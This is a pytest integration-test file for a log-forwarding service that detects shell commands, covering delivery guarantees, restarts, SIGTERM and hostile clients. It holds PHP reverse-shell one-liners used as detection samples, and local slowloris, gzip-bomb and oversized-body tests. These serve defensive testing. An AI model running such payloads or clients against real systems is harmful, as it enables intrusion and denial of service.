"""`shellsieve serve` between peers that speak the shippers' wire contracts: every upstream peer into every
downstream kind, a downstream restarted mid-stream, many connections at once, a stalled downstream, SIGTERM
under load, shipper envelopes, and hostile clients. Each event is traced back by (connection, sequence)."""

from __future__ import annotations

import asyncio
import gzip
import json
import os
import signal
import time
from pathlib import Path
from typing import Any

import aiohttp
import pytest

from .conftest import PHP_FSOCKOPEN, Stream, account, await_for, is_alert, rss_kib, stream
from .harness import DOWNSTREAMS, RAW_LINE_PEERS, UPSTREAMS, Listeners, downstream, forward_url, run, send, started

_MiB = 1 << 20


def find(obj: Any, key: str) -> list[Any]:
    """Every value stored under `key` anywhere in a decoded JSON log event."""
    out: list[Any] = []
    if isinstance(obj, dict):
        for k, v in obj.items():
            if k == key:
                out.append(v)
            out.extend(find(v, key))
    elif isinstance(obj, list):
        for v in obj:
            out.extend(find(v, key))
    return out


def malformed_total(stopped: dict[str, Any]) -> int:
    """The malformed lines a `stopped` event counts (its first `malformed` counter, summed by reason)."""
    for v in find(stopped, "malformed"):
        if isinstance(v, dict):
            return sum(x for x in v.values() if isinstance(x, int))
        if isinstance(v, int):
            return v
    return -1


def in_out(stopped: dict[str, Any]) -> tuple[int, int]:
    """Total events in and out as `stopped` reports them (-1 where it holds no such counter)."""
    tot = stopped.get("totals", stopped)
    def pick(*names: str) -> int:
        for n in names:
            if isinstance(tot.get(n), int):
                return int(tot[n])
        return -1
    return pick("events_in", "in"), pick("events_out", "out")


def per_listener_in(stopped: dict[str, Any]) -> int:
    """The events in summed over `stopped`'s per-listener counters (-1 if it has none)."""
    ls = stopped.get("listeners")
    if not isinstance(ls, dict) or not ls:
        return -1
    return sum(int(v.get("events_in", 0)) for v in ls.values() if isinstance(v, dict))


def down_count(peer: Any) -> int:
    return len(peer.events) if not hasattr(peer, "lines") else len(peer.lines)


class TestEveryPair:
    @pytest.mark.parametrize("down", [*DOWNSTREAMS, "http_json_array"])
    def test_every_upstream_into(self, down: str, tmp_path: Path, start_serve: Any) -> None:
        """Every upstream peer at once into one downstream kind: 0 lost, 0 reordered, alerts present, bad
        lines forwarded and counted, no connection dropped."""
        async def go() -> tuple[list[Stream], Any, dict[str, Any], Any]:
            sink = await started(downstream(down, tmp_path))
            ls = Listeners.make(tmp_path)
            srv = await asyncio.to_thread(start_serve, ls.urls(("http", "tcp", "unix")), forward_url(sink))
            assert ls.unix.stat().st_mode & 0o777 == 0o600, oct(ls.unix.stat().st_mode)
            kinds = [*(k for k in UPSTREAMS if k != "fluentbit_forward"), "vector_http_text", "vector_http_gzip"]
            streams = [stream(k, 1200, odd_every=40 if k in (*RAW_LINE_PEERS[1:], "vector_http_text") else 0)
                       for k in kinds]
            reports = await asyncio.gather(*(send(k, ls, s) for k, s in zip(kinds, streams)))
            total = sum(len(s.lines) for s in streams)
            await await_for(lambda: down_count(sink) >= total, 20)
            stopped = await asyncio.to_thread(srv.stop)
            await sink.stop()
            return streams, sink.events, dict(zip(kinds, reports)), stopped
        streams, events, reports, stopped = run(go())
        d = account(streams, events)
        assert d.ok and not d.duplicates, d.summary()
        assert sum(is_alert(e) for e in events) == sum(s.kinds.count("alert") for s in streams)
        for k in ("vector_http", "vector_http_text", "vector_http_gzip", "fluentbit_http"):
            assert set(reports[k].statuses) == {200}, (k, dict(reports[k].statuses))
        assert stopped.returncode == 0, stopped.logs[-5:]
        sent_bad = sum(sum(s.malformed().values()) for s in streams)
        assert malformed_total(stopped.stopped) == sent_bad, stopped.stopped
        total = sum(len(s.lines) for s in streams)
        assert in_out(stopped.stopped) == (total, total), stopped.stopped
        assert per_listener_in(stopped.stopped) == total, stopped.stopped.get("listeners")


class TestForwardUpstream:
    @pytest.mark.parametrize("down", DOWNSTREAMS)
    def test_forward_into(self, down: str, tmp_path: Path, start_serve: Any) -> None:
        """Fluent Bit's forward output (Forward mode and gzip CompressedPackedForward, chunk acks) into one
        downstream kind: every chunk acked once, 0 lost, 0 reordered, alerts present."""
        async def go() -> tuple[list[Stream], Any, list[Any], Any]:
            sink = await started(downstream(down, tmp_path))
            ls = Listeners.make(tmp_path)
            srv = await asyncio.to_thread(start_serve, ls.urls(("forward",)), forward_url(sink))
            streams = [stream("fwd", 1500), stream("fwdgz", 1500)]
            reports = await asyncio.gather(send("fluentbit_forward", ls, streams[0], chunk_events=100),
                                           send("fluentbit_forward", ls, streams[1], chunk_events=100, compress=True))
            await await_for(lambda: down_count(sink) >= 3000, 20)
            stopped = await asyncio.to_thread(srv.stop)
            await sink.stop()
            return streams, sink.events, reports, stopped
        streams, events, reports, stopped = run(go())
        d = account(streams, events)
        assert d.ok and not d.duplicates, d.summary()
        assert all(r.retries == 0 and r.acked == 1500 for r in reports), [(r.retries, r.errors[:3]) for r in reports]
        assert stopped.returncode == 0 and in_out(stopped.stopped) == (3000, 3000), stopped.stopped


class TestDownstreamRestart:
    @pytest.mark.parametrize("down", ["http", "forward"])
    def test_killed_and_restarted(self, down: str, tmp_path: Path, start_serve: Any,
                                  record_property: Any) -> None:
        """The acked downstream stops mid-stream for 2 s and comes back on the same port, and (http) three
        batches are stored but never answered: 0 lost, 0 reordered per connection; duplicates (at-least-once)
        counted and reported."""
        async def go() -> tuple[list[Stream], Any, list[Any]]:
            sink = await started(downstream(down, tmp_path))
            ls = Listeners.make(tmp_path)
            fwd = down == "forward"  # the forward path end to end: a forward upstream too
            srv = await asyncio.to_thread(start_serve, ls.urls(("http", "forward") if fwd else ("http",)),
                                          forward_url(sink), "--batch-events", "200")
            streams = [stream(f"h{i}", 3000) for i in range(4)] + ([stream("f0", 2000)] if fwd else [])
            kinds = ["vector_http"] * 4 + (["fluentbit_forward"] if fwd else [])
            senders = asyncio.gather(*(send(k, ls, s, batch_events=100) if k == "vector_http" else
                                       send(k, ls, s, chunk_events=100) for k, s in zip(kinds, streams)))
            await await_for(lambda: down_count(sink) >= 2000, 30)
            if down == "http":
                sink.cut_after_store = 3
                await await_for(lambda: sink.cut_after_store == 0, 10)
            await sink.stop()
            await asyncio.sleep(2)
            await sink.start()
            reports = await senders
            await await_for(lambda: down_count(sink) >= sum(len(s.lines) for s in streams), 30)
            stopped = await asyncio.to_thread(srv.stop)
            await sink.stop()
            assert stopped.returncode == 0
            return streams, sink.events, reports
        streams, events, reports = run(go())
        d = account(streams, events)
        dup = sum(d.duplicates.values())
        record_property("duplicates", dup)
        print(f"\n[{down} restart] received {d.received}, duplicates {dup} {d.duplicates}, "
              f"client statuses {[dict(r.statuses) for r in reports]}")
        assert not d.lost and not d.reordered and not d.missing_alerts, d.summary()
        if down == "http":  # each unanswered batch was sent again: duplicates, as at-least-once allows
            assert dup > 0, d.summary()
        for r in reports:  # while the downstream was down the clients heard 503 with Retry-After
            assert 503 not in r.statuses or len(r.retry_after) == r.statuses[503], (dict(r.statuses), r.retry_after)


class TestDownstreamRefusals:
    @pytest.mark.parametrize("status", [500, 429])
    def test_refused_then_accepted(self, status: int, tmp_path: Path, start_serve: Any) -> None:
        """The http_server downstream answers `status` (500: its acknowledgement errored) for 1.5 s
        mid-stream: serve retries, nothing lost or reordered, the refused batches were not stored."""
        async def go() -> tuple[list[Stream], Any]:
            sink = await started(downstream("http", tmp_path))
            ls = Listeners.make(tmp_path)
            srv = await asyncio.to_thread(start_serve, ls.urls(("http", "tcp")), forward_url(sink),
                                          "--batch-events", "200")
            streams = [stream("h", 4000), stream("t", 4000)]
            senders = asyncio.gather(send("vector_http", ls, streams[0], batch_events=100),
                                     send("vector_tcp", ls, streams[1]))
            await await_for(lambda: down_count(sink) >= 1000, 20)
            sink.status_override = status
            await asyncio.sleep(1.5)
            sink.status_override = None
            await senders
            await await_for(lambda: down_count(sink) >= 8000, 30)
            stopped = await asyncio.to_thread(srv.stop)
            assert stopped.returncode == 0
            assert any(r.get("status") == status for r in sink.requests), "no request was refused"
            return streams, sink.events
        streams, events = run(go())
        d = account(streams, events)
        assert d.ok and not d.duplicates, d.summary()

    def test_undecodable_line_is_isolated(self, tmp_path: Path, start_serve: Any) -> None:
        """An over-long text line leaves as it came (not JSON), so Vector's http_server refuses the whole
        request with 400: serve isolates that one line, counts it, and delivers every other in order."""
        async def go() -> tuple[Stream, Any, Any]:
            sink = await started(downstream("http", tmp_path))
            ls = Listeners.make(tmp_path)
            srv = await asyncio.to_thread(start_serve, ls.urls(("tcp",)), forward_url(sink),
                                          "--max-line-bytes", "4096", "--batch-events", "500")
            s = stream("t", 2000)
            long_line = b"ls " + b"a" * 10000 + b" ssq-t-1000-"
            s.lines[1000], s.kinds[1000] = long_line, "long"
            await send("vector_tcp", ls, s)
            await await_for(lambda: down_count(sink) >= 1999, 8)
            stopped = await asyncio.to_thread(srv.stop)
            return s, sink.events, stopped
        s, events, stopped = run(go())
        d = account([s], events, sent_seqs={"t": [q for q in s.seqs if q != 1000]})
        assert d.ok and not d.duplicates, d.summary()
        assert len(events) == 1999 and stopped.stopped.get("events_rejected") == 1, stopped.stopped
        assert stopped.returncode == 0


class TestConcurrency:
    def test_100_tcp_and_100_http(self, tmp_path: Path, start_serve: Any) -> None:
        """100 TCP connections and 100 HTTP clients at once, each its own sequence: all delivered in order."""
        async def go() -> tuple[list[Stream], Any]:
            sink = await started(downstream("http", tmp_path))
            ls = Listeners.make(tmp_path)
            srv = await asyncio.to_thread(start_serve, ls.urls(("http", "tcp")), forward_url(sink))
            tcp = [stream(f"t{i}", 150, alert_every=50) for i in range(100)]
            http = [stream(f"h{i}", 150, alert_every=50) for i in range(100)]
            await asyncio.gather(*(send("vector_tcp", ls, s) for s in tcp),
                                 *(send("vector_http", ls, s, batch_events=50) for s in http))
            await await_for(lambda: down_count(sink) >= 30000, 30)
            stopped = await asyncio.to_thread(srv.stop)
            await sink.stop()
            assert stopped.returncode == 0
            return tcp + http, sink.events
        streams, events = run(go())
        d = account(streams, events)
        assert d.ok and not d.duplicates, d.summary()


@pytest.mark.slow
class TestStall:
    @pytest.mark.parametrize("down", ["http", "tcp"])
    def test_stalled_downstream_bounded(self, down: str, tmp_path: Path, start_serve: Any,
                                        record_property: Any) -> None:
        """A downstream stalled 10 s (http: answers held; tcp: not read): RSS stays within the
        --buffer-events bound, HTTP clients get 503 + Retry-After or wait, nothing is lost after."""
        buffer_events = 2000

        async def go() -> tuple[list[Stream], Any, int, int, list[Any]]:
            sink = await started(downstream(down, tmp_path))
            ls = Listeners.make(tmp_path)
            srv = await asyncio.to_thread(start_serve, ls.urls(("http", "tcp")), forward_url(sink),
                                          "--buffer-events", str(buffer_events), "--batch-events", "500")
            warm = stream("warm", 3000)
            await send("vector_tcp", ls, warm)
            await await_for(lambda: down_count(sink) >= 3000, 20)
            base = rss_kib(srv.pid)
            sink.stall(10)
            streams = [warm] + [stream(f"t{i}", 15000) for i in range(3)] + [stream(f"h{i}", 5000) for i in range(3)]
            peak = 0

            async def sample() -> None:
                nonlocal peak
                while sink.gate.until > time.monotonic():
                    peak = max(peak, rss_kib(srv.pid))
                    await asyncio.sleep(0.1)
            reports = await asyncio.gather(sample(), *(send("vector_tcp", ls, s) for s in streams[1:4]),
                                           *(send("vector_http", ls, s, batch_events=250) for s in streams[4:]))
            await await_for(lambda: down_count(sink) >= sum(len(s.lines) for s in streams), 60)
            stopped = await asyncio.to_thread(srv.stop)
            await sink.stop()
            assert stopped.returncode == 0
            return streams, sink.events, base, peak, reports[4:]
        streams, events, base, peak, http_reports = run(go())
        record_property("rss_base_kib", base)
        record_property("rss_peak_kib", peak)
        # a bound from the buffer: 2000 events of ~700 B, enriched and encoded, a few copies each, plus one
        # 16 MiB body in flight per HTTP client at most; holding the 60,000 events sent would take far more
        bound = base + 32 * 1024
        print(f"\n[stall {down}] rss base {base} KiB, peak {peak} KiB, bound {bound} KiB; "
              f"http statuses {[dict(r.statuses) for r in http_reports]}")
        assert peak <= bound, (base, peak)
        for r in http_reports:
            if 503 in r.statuses:
                assert r.retry_after, "503 without Retry-After"
        d = account(streams, events)
        assert not d.lost and not d.reordered, d.summary()


    def test_large_bodies_respect_the_buffer(self, tmp_path: Path, start_serve: Any) -> None:
        """Eight clients each POSTing a 10,000-event body while the downstream is stalled: what serve holds
        stays within --buffer-events 2000 plus one body, and RSS with it."""
        async def go() -> tuple[list[Stream], Any, int, int, int, list[Any]]:
            sink = await started(downstream("http", tmp_path))
            ls = Listeners.make(tmp_path)
            srv = await asyncio.to_thread(start_serve, ls.urls(("http",)), forward_url(sink),
                                          "--buffer-events", "2000", "--stats-interval", "0.5")
            base = rss_kib(srv.pid)
            sink.stall(8)
            streams = [stream(f"b{i}", 10000) for i in range(8)]
            peak = 0

            async def sample() -> None:
                nonlocal peak
                while sink.gate.until > time.monotonic():
                    peak = max(peak, rss_kib(srv.pid))
                    await asyncio.sleep(0.1)
            reports = await asyncio.gather(sample(), *(send("vector_http", ls, s, batch_events=10000)
                                                       for s in streams))
            await await_for(lambda: down_count(sink) >= 80000, 30)
            buffered = max((x.get("buffered", 0) for x in srv.logs() if x.get("event") == "stats"), default=-1)
            await asyncio.to_thread(srv.stop)
            return streams, sink.events, base, peak, buffered, reports[1:]
        streams, events, base, peak, buffered, reports = run(go())
        print(f"\n[large bodies] buffered at most {buffered}, rss {base} -> {peak} KiB, "
              f"statuses {[dict(r.statuses) for r in reports]}")
        d = account(streams, events)
        assert not d.lost and not d.reordered, d.summary()
        assert buffered <= 2000 + 10000 and peak - base < 48 * 1024, (buffered, base, peak)

class TestSigterm:
    @pytest.mark.parametrize("acked_by", ["http", "forward"])
    def test_acknowledged_survives_sigterm(self, acked_by: str, tmp_path: Path, start_serve: Any) -> None:
        """SIGTERM under load: every event acknowledged (HTTP 200 / forward ack) is downstream, exit 0, and
        `stopped` counts add up."""
        async def go() -> tuple[list[Stream], Any, list[Any], Any]:
            sink = await started(downstream("http", tmp_path))
            ls = Listeners.make(tmp_path)
            srv = await asyncio.to_thread(start_serve, ls.urls((acked_by,)), forward_url(sink))
            if acked_by == "http":
                streams, kinds = [stream(f"h{i}", 20000) for i in range(3)], ["vector_http"] * 3
            else:
                streams, kinds = [stream(f"f{i}", 15000) for i in range(3)], ["fluentbit_forward"] * 3
            reports: list[Any] = []
            tasks = [asyncio.ensure_future(send(k, ls, s, reports, batch_events=200) if k == "vector_http" else
                                           send(k, ls, s, reports, chunk_events=200))
                     for k, s in zip(kinds, streams)]
            await await_for(lambda: down_count(sink) >= 5000, 30)
            stopped = await asyncio.to_thread(srv.stop)
            await asyncio.sleep(0.5)
            for t in tasks:
                t.cancel()
            await asyncio.gather(*tasks, return_exceptions=True)
            await sink.stop()
            return streams, sink.events, reports, stopped
        streams, events, reports, stopped = run(go())
        assert stopped.returncode == 0, stopped.logs[-5:]
        acked = {s.conn: list(r.acked_seqs) for s, r in zip(streams, reports)}
        assert sum(map(len, acked.values())) > 0
        d = account(streams, events, sent_seqs=acked)
        print(f"\n[sigterm] acked {sum(map(len, acked.values()))}, downstream {len(events)}, "
              f"duplicates {sum(d.duplicates.values())}, drain {stopped.seconds:.1f} s")
        assert not d.lost and not d.reordered and not d.untraced, d.summary()
        n_in, n_out = in_out(stopped.stopped)
        assert n_in == n_out == len(events), (stopped.stopped, len(events))
        assert per_listener_in(stopped.stopped) == n_in, stopped.stopped.get("listeners")

    def test_sigterm_with_downstream_down(self, tmp_path: Path, start_serve: Any) -> None:
        """SIGTERM while the downstream is down: within --drain-timeout serve answers every waiting request
        with a non-2xx (nothing undelivered is acknowledged), and `stopped` counts what it could not deliver."""
        async def go() -> tuple[Any, list[Any], Any]:
            sink = await started(downstream("http", tmp_path))
            ls = Listeners.make(tmp_path)
            srv = await asyncio.to_thread(start_serve, ls.urls(("http",)), forward_url(sink), "--drain-timeout", "2")
            await sink.stop()
            reports: list[Any] = []
            tasks = [asyncio.ensure_future(send("vector_http", ls, stream(f"h{i}", 300), reports, batch_events=100))
                     for i in range(3)]
            await asyncio.sleep(1.0)
            stopped = await asyncio.to_thread(srv.stop, signal.SIGTERM, 20)
            for t in tasks:
                t.cancel()
            await asyncio.gather(*tasks, return_exceptions=True)
            return sink, reports, stopped
        sink, reports, stopped = run(go())
        print(f"\n[sigterm, downstream down] exit {stopped.returncode} after {stopped.seconds:.1f} s, "
              f"statuses {[dict(r.statuses) for r in reports]}")
        assert all(r.acked == 0 for r in reports), [r.acked for r in reports]
        assert stopped.seconds < 2 + 5, stopped.seconds
        n_in, n_out = in_out(stopped.stopped)
        assert n_in > 0 and n_out == 0 and stopped.stopped.get("events_pending", n_in) == n_in, stopped.stopped


class TestEnvelopes:
    def test_envelopes_detect_as_bare(self, tmp_path: Path, start_serve: Any) -> None:
        """Vector's file-source envelope and Fluent Bit's `log` envelope detect exactly what the same lines
        detect bare (needs the envelope feature on main: fails until it lands)."""
        bare = stream("env", 300, alert_every=10).lines + [
            b"php -r '$s=fsockopen(\"10.0.0.%d\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'" % i for i in range(10)]
        vector = [json.dumps({"message": x.decode(), "host": "web-01", "file": "/var/log/exec.log",
                              "source_type": "file", "timestamp": "2026-11-22T10:00:00Z"}).encode() for x in bare]
        fluent = [json.dumps({"log": x.decode()}).encode() for x in bare]

        async def go() -> list[list[dict[str, Any]]]:
            sink = await started(downstream("tcp", tmp_path))
            ls = Listeners.make(tmp_path)
            srv = await asyncio.to_thread(start_serve, ls.urls(("tcp",), "host_os=linux"), forward_url(sink))
            outs = []
            for lines in (bare, vector, fluent):
                before = len(sink.lines)
                await send("vector_tcp", ls, Stream("x", lines, ["?"] * len(lines)))
                await await_for(lambda: len(sink.lines) >= before + len(lines), 20)
                outs.append([json.loads(x) for x in sink.lines[before:]])
            await asyncio.to_thread(srv.stop)
            await sink.stop()
            return outs

        def rules(obj: dict[str, Any]) -> list[str]:
            return sorted(a["id"] for a in obj.get("shellsieve", {}).get("alerts", []))
        outs = run(go())
        want = [rules(x) for x in outs[0]]
        assert sum(bool(r) for r in want) >= 30 and all(PHP_FSOCKOPEN in r for r in want[-10:]), want[-12:]
        assert [rules(x) for x in outs[1]] == want
        assert [rules(x) for x in outs[2]] == want
        # the envelope's own fields stay (its `host` string may collide with an inner ECS `host` object)
        assert all(x.get("file") == "/var/log/exec.log" and x.get("source_type") == "file" for x in outs[1])


async def _raw(port: int, data: bytes, read: bool = True, timeout: float = 5) -> bytes:
    r, w = await asyncio.open_connection("127.0.0.1", port)
    w.write(data)
    await w.drain()
    out = b""
    if read:
        try:
            async with asyncio.timeout(timeout):
                out = await r.read(65536)
        except TimeoutError:
            out = b"<timeout>"
    w.close()
    return out


class TestHostile:
    def test_hostile_clients_do_not_stop_others(self, tmp_path: Path, start_serve: Any,
                                                record_property: Any) -> None:
        """Garbage bytes, half-open connections, a slowloris trickle and a 1 GiB body get an error or a
        close, memory stays bounded, and well-behaved peers lose nothing meanwhile."""
        results: dict[str, Any] = {}

        async def big_body(chunked: bool) -> None:
            r, w = await asyncio.open_connection("127.0.0.1", ls.http)
            head = (b"POST / HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-ndjson\r\n"
                    + (b"Transfer-Encoding: chunked\r\n\r\n" if chunked else b"Content-Length: 1073741824\r\n\r\n"))
            w.write(head)
            sent, piece = 0, (b'{"a":1}\n' * 8192)
            status = b""
            try:
                while sent < 32 * _MiB:
                    w.write(b"%x\r\n%s\r\n" % (len(piece), piece) if chunked else piece)
                    await w.drain()
                    sent += len(piece)
                    try:
                        status = await asyncio.wait_for(r.read(200), 0.001)
                    except TimeoutError:
                        continue
                    break
            except (ConnectionError, OSError):
                pass
            if not status:
                try:
                    status = await asyncio.wait_for(r.read(200), 5)
                except (TimeoutError, ConnectionError, OSError):
                    status = b"<none>"
            results["chunked" if chunked else "1GiB"] = (sent, status[:40])
            w.close()

        async def gzip_bomb() -> None:
            body = gzip.compress(b'{"a":1}\n' * (1 << 24), 9)  # 128 MiB of lines in ~200 KB
            async with aiohttp.ClientSession() as s, s.post(
                    f"http://127.0.0.1:{ls.http}/", data=body,
                    headers={"Content-Encoding": "gzip", "Content-Type": "application/x-ndjson"}) as resp:
                results["gzip_bomb"] = resp.status

        async def slowloris() -> None:
            r, w = await asyncio.open_connection("127.0.0.1", ls.http)
            msg = b"POST / HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 20  # one byte per 0.1 s, 5 s in all
            for b in msg:
                try:
                    w.write(bytes([b]))
                    await w.drain()
                except (ConnectionError, OSError):
                    results["slowloris"] = "closed"
                    w.close()
                    return
                await asyncio.sleep(0.1)
            results["slowloris"] = "held"
            w.close()

        async def go() -> tuple[list[Stream], Any, int, int, bytes]:
            nonlocal ls
            sink = await started(downstream("http", tmp_path))
            ls = Listeners.make(tmp_path)
            srv = await asyncio.to_thread(start_serve, ls.urls(("http", "tcp")), forward_url(sink),
                                          "--max-body-bytes", str(_MiB), "--idle-timeout", "3")
            base = rss_kib(srv.pid)
            half_tcp = await asyncio.open_connection("127.0.0.1", ls.tcp)
            opened.append(half_tcp[1])
            half_tcp[1].write(b'{"half":')
            half_http = await asyncio.open_connection("127.0.0.1", ls.http)
            opened.append(half_http[1])
            half_http[1].write(b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\n{\"a\":")
            garbage = os.urandom(1 << 16)
            good = [stream("g_http", 3000), stream("g_tcp", 3000)]
            extra = await asyncio.gather(
                send("vector_http", ls, good[0], batch_events=100), send("vector_tcp", ls, good[1]),
                _raw(ls.http, b"\x16\x03\x01\x02\x00garbage\r\n\r\n"), _raw(ls.tcp, garbage, read=False),
                big_body(False), big_body(True), slowloris(), gzip_bomb())
            results["garbage_http"] = extra[2][:40]
            await await_for(lambda: sum(1 for e in sink.events if str(e.get("labels", {}).get("conn", ""))
                                        .startswith("g_")) >= 6000, 20)
            peak = rss_kib(srv.pid)
            for name, (r, _) in (("half_open_tcp", half_tcp), ("half_open_http", half_http)):
                try:  # silent past --idle-timeout 3: closed by serve (an HTTP one may get a 408 first)
                    results[name] = await asyncio.wait_for(r.read(), 8) or b"closed"
                except TimeoutError:
                    results[name] = b"open"
                except (ConnectionError, OSError):
                    results[name] = b"closed"
            async with aiohttp.ClientSession() as s, s.get(f"http://127.0.0.1:{ls.http}/health") as resp:
                health = await resp.read()
            for c in (half_tcp, half_http):
                c[1].close()
            stopped = await asyncio.to_thread(srv.stop)
            await sink.stop()
            assert stopped.returncode == 0
            return good, sink.events, base, peak, health

        ls: Any = None
        opened: list[asyncio.StreamWriter] = []

        async def guarded() -> Any:
            try:
                return await go()
            finally:
                for w in opened:
                    w.close()
        good, events, base, peak, health = run(guarded())
        record_property("hostile", repr(results))
        print(f"\n[hostile] {results} rss {base}->{peak} KiB")
        d = account(good, [e for e in events if str(e.get("labels", {}).get("conn", "")).startswith("g_")])
        assert d.ok and not d.duplicates, d.summary()
        assert json.loads(health)["status"] == "ok"
        assert results["garbage_http"][:9] in (b"HTTP/1.0 ", b"HTTP/1.1 ", b"") and results["garbage_http"][9:10] in (
            b"4", b""), results
        for k in ("1GiB", "chunked"):
            sent, status = results[k]
            assert status.startswith(b"HTTP/1.1 413") or status in (b"", b"<none>") and sent < 32 * _MiB, results
        assert peak - base < 64 * 1024, (base, peak)
        assert results["gzip_bomb"] == 413, results
        assert results["half_open_tcp"] == b"closed" and results["half_open_http"] != b"open", results


    def test_sigterm_with_a_stuck_request(self, tmp_path: Path, start_serve: Any) -> None:
        """An HTTP request whose body stops half-way neither outlives --idle-timeout nor holds SIGTERM past
        --drain-timeout."""
        async def go() -> tuple[bytes, Any]:
            sink = await started(downstream("http", tmp_path))
            ls = Listeners.make(tmp_path)
            srv = await asyncio.to_thread(start_serve, ls.urls(("http",)), forward_url(sink),
                                          "--idle-timeout", "2", "--drain-timeout", "3")
            r, w = await asyncio.open_connection("127.0.0.1", ls.http)
            try:
                w.write(b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\n{\"a\":")
                try:
                    got = await asyncio.wait_for(r.read(), 6) or b"closed"
                except TimeoutError:
                    got = b"open"
                except (ConnectionError, OSError):
                    got = b"closed"
                stopped = await asyncio.to_thread(srv.stop, signal.SIGTERM, 20)
            finally:
                w.close()
            return got, stopped
        got, stopped = run(go())
        seen = {"request after 6 s silent": got, "SIGTERM to exit (s)": round(stopped.seconds, 1),
                "exit": stopped.returncode}
        assert got != b"open" and stopped.seconds < 3 + 5 and stopped.returncode in (0, 1), seen
